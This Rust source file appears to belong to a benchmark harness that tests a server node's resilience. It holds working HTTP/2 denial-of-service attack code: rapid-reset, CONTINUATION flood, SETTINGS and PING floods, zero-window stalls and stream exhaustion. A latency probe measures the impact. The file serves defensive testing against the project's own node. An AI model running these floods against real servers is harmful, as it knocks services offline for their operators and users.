//! The two sides of the h2-attacks scenario (`h2scenario.rs`), each a process of its own
//! that the harness starts in the attacker's network namespace:
//! `outpost-bench h2-attack KIND ADDR SECONDS` floods the node with one of the HTTP/2
//! attacks of docs/security.md, and `outpost-bench h2-probe ADDR SECONDS` is the other
//! client, sending a fixed 200 requests a second and timing each from when it was due.

use std::io::{ErrorKind, Read, Write};
use std::net::{SocketAddr, TcpStream};
use std::time::{Duration, Instant};

use anyhow::{Context, bail};
use serde::{Deserialize, Serialize};

use crate::h2frames::*;

/// The attacks, in the order they run; `none` and `spin` are the controls.
pub const KINDS: &[&str] = &[
    "none",
    "spin",
    "rapid-reset",
    "continuation",
    "settings",
    "ping",
    "zero-window",
    "streams",
];
/// Connections an attacker floods at once (zero-window ramps up to `HELD`).
const FAN: usize = 4;
/// Connections the zero-window attacker holds, 100 stalled streams each.
const HELD: usize = 200;
/// Requests a second the probe sends.
pub const PROBE_RATE: u64 = 200;

/// What one attacker did.
#[derive(Debug, Default, Serialize, Deserialize)]
pub struct AttackerReport {
    pub connections: u64,
    /// Connections the node closed (GOAWAY, reset, or EOF).
    pub closed_by_node: u64,
    pub connect_failures: u64,
    pub bytes: u64,
}

/// What the probe saw.
#[derive(Debug, Default, Serialize, Deserialize)]
pub struct ProbeReport {
    pub sent: u64,
    pub ok: u64,
    pub failed: u64,
    pub p50_ms: f64,
    pub p99_ms: f64,
    pub max_ms: f64,
    /// The first few failures, for the report.
    pub failures: Vec<String>,
}

struct Conn {
    stream: TcpStream,
    pending: Vec<u8>,
    /// The preface has been sent.
    started: bool,
    /// The next stream the rapid-reset attack opens (its id is `2n + 1`).
    next_stream: u32,
    opened: Instant,
    /// The attack's script for this connection is done; it is only held now.
    holding: bool,
}

/// Runs attack `kind` against `addr` for `seconds` and prints its report as `JSON …`.
pub fn attack(kind: &str, addr: SocketAddr, seconds: u64) -> anyhow::Result<()> {
    let deadline = Instant::now() + Duration::from_secs(seconds);
    let mut report = AttackerReport::default();
    match kind {
        "none" => std::thread::sleep(Duration::from_secs(seconds)),
        "spin" => {
            let mut x = 0u64;
            while Instant::now() < deadline {
                x = std::hint::black_box(x.wrapping_mul(31).wrapping_add(7));
            }
        }
        _ if KINDS.contains(&kind) => flood(kind, addr, deadline, &mut report),
        _ => bail!("unknown attack {kind}; one of {KINDS:?}"),
    }
    println!("JSON {}", serde_json::to_string(&report)?);
    Ok(())
}

/// The frames `kind` sends next on `conn`; `None` once it only holds the connection.
fn next_bytes(kind: &str, conn: &mut Conn, junk: &[u8]) -> Option<Vec<u8>> {
    let first = !std::mem::replace(&mut conn.started, true);
    let mut out = if first {
        let settings: &[u8] = if kind == "zero-window" {
            &ZERO_WINDOW
        } else {
            &[]
        };
        [PREFACE, &frame(SETTINGS, 0, 0, settings)].concat()
    } else {
        Vec::new()
    };
    match kind {
        "rapid-reset" => {
            for _ in 0..100 {
                let id = conn.next_stream * 2 + 1;
                conn.next_stream += 1;
                out.extend(frame(HEADERS, END_STREAM | END_HEADERS, id, &get("x", "/")));
                out.extend(frame(RST_STREAM, 0, id, &8u32.to_be_bytes()));
            }
        }
        "continuation" if first => {
            out.extend(frame(HEADERS, END_STREAM, 1, &get("x", "/")[..2]));
        }
        "continuation" => out.extend(frame(CONTINUATION, 0, 1, junk)),
        "settings" | "ping" => {
            for _ in 0..100 {
                out.extend(match kind {
                    "settings" => frame(SETTINGS, 0, 0, &[]),
                    _ => frame(PING, 0, 0, &[0; 8]),
                });
            }
        }
        "zero-window" | "streams" if first => {
            let count = if kind == "streams" { 300 } else { 100 };
            out.extend(requests(count, "x", "/"));
        }
        _ => return None,
    }
    Some(out)
}

fn flood(kind: &str, addr: SocketAddr, deadline: Instant, report: &mut AttackerReport) {
    let junk = continuation_junk();
    // The settings and ping floods never read the acknowledgements: that is the attack.
    let reads = !matches!(kind, "settings" | "ping");
    let target = if kind == "zero-window" { HELD } else { FAN };
    let mut conns: Vec<Conn> = Vec::new();
    let mut scratch = vec![0u8; 64 * 1024];
    while Instant::now() < deadline {
        let mut progressed = false;
        if conns.len() < target {
            match TcpStream::connect_timeout(&addr, Duration::from_secs(1)) {
                Ok(stream) if stream.set_nonblocking(true).is_ok() => {
                    report.connections += 1;
                    conns.push(Conn {
                        stream,
                        pending: Vec::new(),
                        started: false,
                        next_stream: 0,
                        opened: Instant::now(),
                        holding: false,
                    });
                    progressed = true;
                }
                _ => report.connect_failures += 1,
            }
        }
        conns.retain_mut(|conn| {
            if conn.pending.is_empty() && !conn.holding {
                match next_bytes(kind, conn, &junk) {
                    Some(bytes) => conn.pending = bytes,
                    None => conn.holding = true,
                }
            }
            let mut open = true;
            if !conn.pending.is_empty() {
                match conn.stream.write(&conn.pending) {
                    Ok(n) => {
                        report.bytes += n as u64;
                        conn.pending.drain(..n);
                        progressed |= n > 0;
                    }
                    Err(e) if e.kind() == ErrorKind::WouldBlock => {}
                    Err(_) => open = false,
                }
            }
            if reads && open {
                match conn.stream.read(&mut scratch) {
                    Ok(0) => open = false,
                    Ok(_) => progressed = true,
                    Err(e) if e.kind() == ErrorKind::WouldBlock => {}
                    Err(_) => open = false,
                }
            }
            if !open {
                report.closed_by_node += 1;
            }
            // The streams attack starts over on a new connection once its burst is read.
            let recycled = kind == "streams"
                && conn.holding
                && conn.opened.elapsed() > Duration::from_millis(200);
            open && !recycled
        });
        if !progressed {
            // Every socket is full or held: the attacker's own pacing, nothing waited on.
            std::thread::sleep(Duration::from_millis(1));
        }
    }
}

/// Sends `PROBE_RATE` GETs a second over one HTTP/2 connection for `seconds`, times
/// each from when it was due, and prints the report as `JSON …`.
pub fn probe(addr: SocketAddr, seconds: u64) -> anyhow::Result<()> {
    use bytes::Bytes;
    use http_body_util::{BodyExt, Empty};
    use hyper_util::client::legacy::Client;
    use hyper_util::rt::TokioExecutor;

    let runtime = tokio::runtime::Builder::new_current_thread()
        .enable_all()
        .build()?;
    let latencies = runtime.block_on(async move {
        let client: Client<_, Empty<Bytes>> = Client::builder(TokioExecutor::new())
            .http2_only(true)
            .build_http();
        let mut tick = tokio::time::interval(Duration::from_micros(1_000_000 / PROBE_RATE));
        tick.set_missed_tick_behavior(tokio::time::MissedTickBehavior::Burst);
        let end = tokio::time::Instant::now() + Duration::from_secs(seconds);
        let mut tasks = Vec::new();
        while tokio::time::Instant::now() < end {
            let due = tick.tick().await;
            let client = client.clone();
            tasks.push(tokio::spawn(async move {
                let request = hyper::Request::get(format!("http://{addr}/"))
                    .body(Empty::new())
                    .ok()?;
                let answer = tokio::time::timeout(Duration::from_secs(5), async {
                    let response = client
                        .request(request)
                        .await
                        .map_err(|e| format!("{e:?}"))?;
                    let status = response.status();
                    let body = response
                        .into_body()
                        .collect()
                        .await
                        .map_err(|e| e.to_string())?;
                    if status != 200 {
                        return Err(format!(
                            "{status} {:?}",
                            String::from_utf8_lossy(&body.to_bytes())
                        ));
                    }
                    Ok(())
                })
                .await
                .unwrap_or_else(|_| Err("no answer within 5 s".into()));
                Some(answer.map(|()| due.elapsed().as_secs_f64() * 1e3))
            }));
        }
        let mut latencies = Vec::new();
        for task in tasks {
            latencies.push(task.await.ok().flatten());
        }
        latencies
    });
    let mut ok: Vec<f64> = Vec::new();
    let mut failures = Vec::new();
    for answer in latencies.iter().flatten() {
        match answer {
            Ok(ms) => ok.push(*ms),
            Err(e) if failures.len() < 5 => failures.push(e.clone()),
            Err(_) => {}
        }
    }
    ok.sort_by(f64::total_cmp);
    let at = |q: f64| {
        ok.get(((ok.len().max(1) - 1) as f64 * q).round() as usize)
            .copied()
            .unwrap_or(0.0)
    };
    let report = ProbeReport {
        sent: latencies.len() as u64,
        ok: ok.len() as u64,
        failed: (latencies.len() - ok.len()) as u64,
        p50_ms: at(0.5),
        p99_ms: at(0.99),
        max_ms: ok.last().copied().unwrap_or(0.0),
        failures,
    };
    println!("JSON {}", serde_json::to_string(&report)?);
    Ok(())
}

/// The `JSON …` line a side printed.
pub fn parse_report<T: for<'a> Deserialize<'a>>(stdout: &[u8]) -> anyhow::Result<T> {
    let text = String::from_utf8_lossy(stdout);
    let json = text
        .lines()
        .find_map(|l| l.strip_prefix("JSON "))
        .with_context(|| format!("no report in {text:?}"))?;
    Ok(serde_json::from_str(json)?)
}
